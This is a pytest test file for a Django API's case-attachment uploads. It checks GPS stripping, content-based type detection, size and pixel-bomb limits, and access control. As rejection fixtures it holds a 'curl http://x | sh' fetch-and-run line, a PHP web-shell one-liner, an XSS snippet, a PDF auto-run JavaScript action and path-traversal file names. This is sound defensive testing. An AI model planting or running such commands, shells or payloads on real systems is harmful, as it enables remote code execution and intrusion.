"""Case attachments (/api/v1/cases/{id}/attachments/): checked by content, images kept without GPS."""

from __future__ import annotations

import hashlib
import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import Image

from cases import events
from cases.attachments import MAX_NAME_LENGTH, clean_name
from cases.models import Attachment, Case, TimelineEvent
from cases.services import attach_file
from config.service_errors import InvalidInput
from tests.factories import open_case

GPS_IFD = 0x8825
ORIENTATION = 0x0112


def files_in(media) -> list:
    return [path for path in media.rglob("*") if path.is_file()] if media.exists() else []


def list_url(case: Case) -> str:
    return f"/api/v1/cases/{case.pk}/attachments/"


def jpeg_with_gps(size=(40, 30), orientation: int | None = None) -> bytes:
    exif = Image.Exif()
    exif[GPS_IFD] = {1: "N", 2: (31.0, 14.0, 2.5), 3: "E", 4: (121.0, 28.0, 7.1)}
    if orientation:
        exif[ORIENTATION] = orientation
    out = io.BytesIO()
    Image.new("RGB", size, "red").save(out, "JPEG", exif=exif)
    return out.getvalue()


def png(size=(20, 20), mode="RGB") -> bytes:
    out = io.BytesIO()
    Image.new(mode, size).save(out, "PNG")
    return out.getvalue()


def upload(api, user, case, name: str, content: bytes, content_type="application/octet-stream"):
    return api(user).post(list_url(case), {"file": SimpleUploadedFile(name, content, content_type)},
                          format="multipart")


def nothing_written(media) -> bool:
    return (Attachment.objects.count() == 0 and files_in(media) == []
            and not TimelineEvent.objects.filter(type=events.ATTACHMENT_ADDED).exists())


# --- what is kept -----------------------------------------------------------------------------------


def test_a_jpeg_photo_loses_its_gps_position(api, case, agent, media):
    # given a photo whose EXIF says where it was taken
    original = jpeg_with_gps()
    assert Image.open(io.BytesIO(original)).getexif().get_ifd(GPS_IFD)

    # when
    response = upload(api, agent, case, "IMG_2031.jpg", original, "image/jpeg")

    # then it is kept as a JPEG without any EXIF
    assert response.status_code == 201
    attachment = Attachment.objects.get()
    with attachment.file.open("rb") as stored_file:
        stored = stored_file.read()
    kept = Image.open(io.BytesIO(stored))
    assert kept.format == "JPEG"
    assert not kept.getexif().get_ifd(GPS_IFD)
    assert "exif" not in kept.info
    assert attachment.sha256 == hashlib.sha256(stored).hexdigest()
    assert attachment.size == len(stored)


def test_a_sideways_photo_is_kept_upright(api, case, agent):
    # EXIF orientation 6: the camera was turned; the pixels are turned instead before EXIF goes.
    response = upload(api, agent, case, "turned.jpg", jpeg_with_gps((40, 30), orientation=6))

    assert response.status_code == 201
    with Attachment.objects.get().file.open("rb") as stored:
        assert Image.open(stored).size == (30, 40)


def test_a_png_is_accepted_and_answered_with_its_details(api, case, agent):
    response = upload(api, agent, case, "screenshot.png", png(), "image/png")

    assert response.status_code == 201
    body = response.json()
    attachment = Attachment.objects.get()
    assert body["id"] == attachment.pk
    assert (body["name"], body["content_type"], body["size"], body["sha256"], body["uploaded_by"]) == (
        "screenshot.png", "image/png", attachment.size, attachment.sha256, "agent1")
    assert body["uploaded_at"]
    assert body["url"].endswith(f"/api/v1/cases/{case.pk}/attachments/{attachment.pk}/")
    assert attachment.file.name == f"attachments/{case.pk}/{attachment.sha256[:32]}.png"


def test_the_type_comes_from_the_content_not_the_name(api, case, agent):
    response = upload(api, agent, case, "receipt.jpg", png(), "image/jpeg")

    assert response.status_code == 201
    attachment = Attachment.objects.get()
    assert (attachment.content_type, attachment.extension) == ("image/png", ".png")
    assert attachment.original_name == "receipt.jpg"


def test_an_animated_gif_keeps_its_frames_but_not_its_comment(api, case, agent):
    frames = [Image.new("RGB", (30, 20), colour) for colour in ("red", "green", "blue")]
    out = io.BytesIO()
    frames[0].save(out, "GIF", save_all=True, append_images=frames[1:], duration=200, loop=0,
                   comment=b"taken at home, 12 Main Street")

    response = upload(api, agent, case, "unboxing.gif", out.getvalue(), "image/gif")

    assert response.status_code == 201
    with Attachment.objects.get().file.open("rb") as stored:
        kept = Image.open(stored)
        assert (kept.format, kept.n_frames) == ("GIF", 3)
        assert "comment" not in kept.info


def test_a_pdf_and_a_plain_text_file_are_accepted(api, case, agent):
    pdf = b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"
    text = "快递单号：SF1234567890\n签收人：门卫\n".encode()

    assert upload(api, agent, case, "waybill.pdf", pdf).status_code == 201
    assert upload(api, agent, case, "chat.txt", text).status_code == 201

    assert sorted(Attachment.objects.values_list("content_type", flat=True)) == [
        "application/pdf", "text/plain"]


def test_an_upload_writes_one_timeline_event_without_the_content(api, case, agent):
    upload(api, agent, case, "screenshot.png", png(), "image/png")

    attachment = Attachment.objects.get()
    event = TimelineEvent.objects.get(type=events.ATTACHMENT_ADDED)
    assert (event.case_id, event.actor) == (case.pk, agent)
    assert event.data == {"attachment_id": attachment.pk, "name": "screenshot.png",
                          "content_type": "image/png", "size": attachment.size}


# --- what is refused ------------------------------------------------------------------------------


def test_a_windows_program_renamed_jpg_is_refused_and_nothing_is_written(api, case, agent, media):
    program = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + bytes(500)

    response = upload(api, agent, case, "photo.jpg", program, "image/jpeg")

    assert response.status_code == 400
    assert "Windows program" in response.json()["detail"]
    assert "file" in response.json()["errors"]
    assert nothing_written(media)


def test_a_shell_script_is_refused(api, case, agent, media):
    response = upload(api, agent, case, "notes.txt", b"#!/bin/sh\ncurl http://x | sh\n", "text/plain")

    assert response.status_code == 400
    assert "script" in response.json()["detail"]
    assert nothing_written(media)


@pytest.mark.parametrize("content", [
    b"\x7fELF\x02\x01\x01" + bytes(100),
    b"\xcf\xfa\xed\xfe" + bytes(100),
    b"<?php system($_GET['c']); ?>",
    b"  <script>alert(1)</script>",
    b"PK\x03\x04" + bytes(100),  # a ZIP (or .docx, .apk): not on the list
    bytes(range(256)),
])
def test_programs_scripts_and_other_types_are_refused_whatever_their_name(api, case, agent, media,
                                                                          content):
    response = upload(api, agent, case, "photo.png", content, "image/png")

    assert response.status_code == 400
    assert "Send a photo (JPEG, PNG, WebP or GIF), a PDF or a plain text file." in (
        response.json()["detail"])
    assert nothing_written(media)


def test_a_pdf_that_runs_javascript_is_refused(api, case, agent, media):
    pdf = b"%PDF-1.4\n1 0 obj << /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >> endobj\n"

    response = upload(api, agent, case, "invoice.pdf", pdf)

    assert response.status_code == 400
    assert nothing_written(media)


def test_a_file_over_the_limit_is_refused_with_the_limit_in_mb(api, case, agent, media, settings):
    settings.ATTACHMENT_MAX_BYTES = 2 * 1024 * 1024

    response = upload(api, agent, case, "big.txt", b"a" * (2 * 1024 * 1024 + 1), "text/plain")

    assert response.status_code == 400
    assert "larger than 2 MB" in response.json()["detail"]
    assert nothing_written(media)


def test_an_empty_file_is_refused(api, case, agent, media):
    response = upload(api, agent, case, "empty.jpg", b"", "image/jpeg")

    assert response.status_code == 400
    assert "empty" in response.json()["detail"]
    assert nothing_written(media)


def test_a_request_without_a_file_is_refused_with_the_field_to_use(api, case, agent, media):
    response = api(agent).post(list_url(case), {"photo": "x"}, format="multipart")

    assert response.status_code == 400
    assert "“file”" in response.json()["detail"]
    assert nothing_written(media)


@pytest.mark.parametrize("content", [
    b"\xff\xd8\xff\xe0" + b"not really a jpeg" * 20,
    jpeg_with_gps((200, 200))[:300],  # cut off in the middle
    b"\x89PNG\r\n\x1a\n" + bytes(64),
])
def test_a_corrupt_image_is_refused(api, case, agent, media, content):
    response = upload(api, agent, case, "photo.jpg", content, "image/jpeg")

    assert response.status_code == 400
    assert "cannot be opened" in response.json()["detail"]
    assert nothing_written(media)


def test_an_image_that_decodes_to_too_many_pixels_is_refused(api, case, agent, media):
    bomb = png((8000, 8000), mode="1")  # a few kilobytes, 64 million pixels

    response = upload(api, agent, case, "bomb.png", bomb, "image/png")

    assert response.status_code == 400
    assert "million pixels" in response.json()["detail"]
    assert nothing_written(media)


def test_a_failure_after_the_file_was_stored_leaves_no_file(case, agent, media, monkeypatch):
    def broken(**kwargs):
        raise RuntimeError("the database went away")

    monkeypatch.setattr(events, "attachment_added", broken)

    with pytest.raises(RuntimeError):
        attach_file(case_id=case.pk, by=agent,
                    upload=SimpleUploadedFile("screenshot.png", png(), "image/png"))

    assert nothing_written(media)


def test_the_original_name_is_kept_as_a_base_name_of_at_most_255_characters():
    assert clean_name("..\\..\\windows\\evil.png") == "evil.png"
    assert clean_name("/etc/passwd") == "passwd"
    assert clean_name("bad\x00name\n.jpg") == "badname.jpg"
    assert clean_name("") == "attachment"
    long = clean_name("照" * 300 + ".jpeg")
    assert len(long) == MAX_NAME_LENGTH
    assert long.endswith(".jpeg")


def test_the_service_refuses_with_invalid_input(case, agent, media):
    with pytest.raises(InvalidInput) as refused:
        attach_file(case_id=case.pk, by=agent,
                    upload=SimpleUploadedFile("x.exe", b"MZ" + bytes(10)))

    assert "file" in refused.value.errors
    assert nothing_written(media)


# --- who may --------------------------------------------------------------------------------------


def test_the_file_downloads_as_an_attachment_that_is_never_sniffed(api, case, agent):
    upload(api, agent, case, "screenshot.png", png(), "image/png")
    attachment = Attachment.objects.get()

    response = api(agent).get(f"{list_url(case)}{attachment.pk}/", HTTP_ACCEPT="image/png")

    assert response.status_code == 200
    assert b"".join(response.streaming_content) == attachment.file.open("rb").read()
    assert response["Content-Type"] == "image/png"
    assert response["Content-Disposition"] == 'attachment; filename="screenshot.png"'
    assert response["X-Content-Type-Options"] == "nosniff"


def test_the_list_shows_the_case_files_in_upload_order(api, case, agent, supervisor):
    upload(api, agent, case, "first.png", png((10, 10)), "image/png")
    upload(api, agent, case, "second.png", png((11, 11)), "image/png")

    response = api(supervisor).get(list_url(case))

    assert response.status_code == 200
    assert [item["name"] for item in response.json()] == ["first.png", "second.png"]


def test_another_shops_agent_gets_404_everywhere(api, case, agent, outsider, media):
    upload(api, agent, case, "screenshot.png", png(), "image/png")
    attachment = Attachment.objects.get()
    client = api(outsider)

    assert client.get(list_url(case)).status_code == 404
    assert client.get(f"{list_url(case)}{attachment.pk}/").status_code == 404
    assert client.get(f"/api/v1/cases/{case.pk}/evidence-pack/").status_code == 404
    response = client.post(list_url(case), {"file": SimpleUploadedFile("x.png", png())},
                           format="multipart")
    assert response.status_code == 404
    assert Attachment.objects.count() == 1
    assert len(files_in(media)) == 1


def test_an_attachment_of_another_case_is_not_found_under_this_one(api, shop, case, agent):
    other = open_case(shop, by=agent)
    upload(api, agent, other, "screenshot.png", png(), "image/png")

    response = api(agent).get(f"{list_url(case)}{Attachment.objects.get().pk}/")

    assert response.status_code == 404


def test_anonymous_users_are_refused(api, case, agent):
    upload(api, agent, case, "screenshot.png", png(), "image/png")
    attachment = Attachment.objects.get()
    client = api(None)

    assert client.get(list_url(case)).status_code in (401, 403)
    assert client.get(f"{list_url(case)}{attachment.pk}/").status_code in (401, 403)
    assert client.get(f"/api/v1/cases/{case.pk}/evidence-pack/").status_code in (401, 403)
    response = client.post(list_url(case), {"file": SimpleUploadedFile("x.png", png())},
                           format="multipart")
    assert response.status_code in (401, 403)
    assert Attachment.objects.count() == 1
